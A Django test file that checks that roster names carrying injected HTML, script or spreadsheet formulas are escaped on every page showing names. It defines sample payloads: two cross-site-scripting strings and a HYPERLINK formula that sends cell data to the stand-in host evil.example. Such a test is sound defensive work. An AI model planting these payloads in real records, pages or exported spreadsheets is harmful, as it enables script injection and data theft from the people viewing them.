"""Names from a roster that carry HTML, script or spreadsheet formulas are shown as text on every
page that shows names."""

from __future__ import annotations

from django.test import Client
from django.urls import reverse

from tests.factories import PASSWORD, OrganizationFactory, person_with_role
from trellis.orgs.models import Organization, Person, Role

SCRIPT = '<script>alert("x")</script>'
IMAGE = '<img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_hostile_names_are_escaped_on_every_page(state_lead, tree):
    school = OrganizationFactory(name=f"School {SCRIPT}", kind=Organization.Kind.SCHOOL, parent=tree.district,
                                 sourced_id="s-hostile", enrollment=30)
    Organization.objects.filter(pk=tree.district.pk).update(name=f"District {IMAGE}")
    person = person_with_role("hostile", Role.TEACHER, school)
    Person.objects.filter(pk=person.pk).update(given_name=IMAGE, family_name=SCRIPT, email=FORMULA)
    client = Client()
    client.login(username="state.lead", password=PASSWORD)
    pages = [reverse("home"), reverse("organization-detail", args=[tree.district.pk]),
             reverse("organization-detail", args=[school.pk]), reverse("staff-list", args=[school.pk]),
             reverse("staff-list", args=[tree.state.pk]), reverse("roster-import", args=[school.pk]),
             reverse("roadmap:district", args=[tree.district.pk]), reverse("audit-log")]
    for url in pages:
        page = client.get(url).content.decode()
        assert SCRIPT not in page and IMAGE not in page, url
    staff = client.get(reverse("staff-list", args=[school.pk])).content.decode()
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in staff
    assert "&lt;img src=x onerror=alert(1)&gt;" in staff
